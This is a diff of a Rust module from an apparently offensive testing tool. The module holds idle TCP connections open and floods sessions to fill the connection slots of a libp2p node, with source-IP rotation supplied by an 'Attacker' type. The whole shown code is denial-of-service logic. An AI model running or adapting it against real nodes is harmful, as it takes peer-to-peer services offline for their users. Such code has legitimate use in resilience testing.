@@ -1,28 +1,27 @@
 //! Connections that occupy the slots of a node.
 
-use crate::Network;
+use crate::Attacker;
+use crate::peer_client::tcp::connect;
 use crate::session::Session;
 use libp2p::Multiaddr;
 use serde_json::{Value, json};
 use std::net::{IpAddr, SocketAddr};
 use std::time::{Duration, Instant};
-use tokio::io::AsyncReadExt;
-use tokio::net::{TcpSocket, TcpStream};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::task::JoinSet;
 use tokio::time::MissedTickBehavior;
 
+/// Holds `sockets` connections, `rate` new ones a second, with or without their first byte.
 pub async fn silent(
+    attacker: &Attacker,
     target: SocketAddr,
-    sockets: usize,
-    rate: u32,
-    sources: &[IpAddr],
+    (sockets, rate, byte): (usize, u32, bool),
     duration: Duration,
 ) -> Value {
     let end = tokio::time::sleep(duration);
     tokio::pin!(end);
     let mut pace = tokio::time::interval(Duration::from_secs(1) / rate.max(1));
     pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
-    let mut sources = sources.iter().cycle();
     let mut held = JoinSet::new();
     let (mut opened, mut closed) = (0_u64, 0_u64);
     loop {
@@ -30,7 +29,7 @@ pub async fn silent(
             () = &mut end => break,
             _ = pace.tick(), if held.len() < sockets => {
                 opened += 1;
-                held.spawn(hold(target, sources.next().copied()));
+                held.spawn(hold(target, attacker.source(), byte));
             }
             Some(_) = held.join_next() => closed += 1,
         }
@@ -39,26 +38,22 @@ pub async fn silent(
 }
 
 /// Connects, and waits until the node closes the connection.
-async fn hold(target: SocketAddr, source: Option<IpAddr>) {
+async fn hold(target: SocketAddr, source: Option<IpAddr>, byte: bool) {
     let Ok(mut stream) = connect(target, source).await else {
         // The node, or the system, refuses it: the next attempt is soon.
         return tokio::time::sleep(Duration::from_millis(100)).await;
     };
+    if byte {
+        // The length of the line by which the dialer proposes the protocol of the handshake.
+        let _ = stream.write_all(&[19]).await;
+    }
     let mut byte = [0];
     // A node that speaks first would be read.
     while stream.read(&mut byte).await.is_ok_and(|read| read > 0) {}
 }
 
-async fn connect(target: SocketAddr, source: Option<IpAddr>) -> std::io::Result<TcpStream> {
-    let socket = if target.is_ipv4() { TcpSocket::new_v4()? } else { TcpSocket::new_v6()? };
-    if let Some(source) = source {
-        socket.bind(SocketAddr::new(source, 0))?;
-    }
-    socket.connect(target).await
-}
-
 pub async fn flood(
-    network: &Network,
+    attacker: &Attacker,
     target: Multiaddr,
     connections: usize,
     hello: bool,
@@ -70,8 +65,8 @@ pub async fn flood(
         attempts += 1;
         let connecting = async {
             match hello {
-                true => Session::connect(network, &target).await,
-                false => Session::dial(network, &target).await,
+                true => Session::connect(attacker, &target).await,
+                false => Session::dial(attacker, &target).await,
             }
         };
         match tokio::time::timeout(Duration::from_secs(2), connecting).await.ok().flatten() {
